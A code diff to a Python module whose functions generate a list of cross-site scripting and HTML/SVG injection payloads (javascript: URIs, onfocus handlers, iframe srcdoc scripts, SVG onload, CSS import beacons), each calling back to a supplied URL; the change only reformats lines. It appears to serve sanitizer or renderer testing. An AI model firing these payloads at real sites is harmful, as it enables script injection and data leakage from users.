@@ -119,10 +119,11 @@ def attacks(url: str) -> list[str]:
         f'<a href="javascript:{run}" autofocus onfocus="{run}">click</a>',
         f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
         f"<meta http-equiv=refresh content='0;url=javascript:{run}'>",
-        f"<iframe src='{url}/frame'></iframe><iframe srcdoc='<script>{run.replace(chr(39), '&quot;')}</script>'></iframe>",
+        f"<iframe src='{url}/frame'></iframe>",
+        f"<iframe srcdoc='<script>{run.replace(chr(39), '&quot;')}</script>'></iframe>",
         f"<iframe src='javascript:{run.replace(chr(39), '&quot;')}'></iframe>",
         f"<object data='{url}/object'></object><embed src='{url}/embed'>",
-        f"<form action='{url}/form' id=f><input autofocus onfocus=\"{run}\"><button formaction='{url}/b'>go</button></form>",
+        f"<form action='{url}/form'><input autofocus onfocus=\"{run}\"><button formaction='{url}/b'>go</button></form>",
         f"<style>@import url('{url}/import.css'); body{{background:url({url}/css.png)}}</style>",
         f"<div style=\"background:url('{url}/style.png')\">x</div>",
         f"<link rel=stylesheet href='{url}/sheet.css'><link rel=preload as=image href='{url}/preload'>",
@@ -146,7 +147,8 @@ def svg(url: str) -> str:
     return (
         f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9" '
         f'onload="{run}"><script>{run}</script><image x:href="{url}/i.png" width="9" height="9"/>'
-        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}/f"/></foreignObject>'
+        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}/f"/>'
+        "</foreignObject>"
         f"<style>@import url({url}/svg.css)</style></svg>"
     )
 
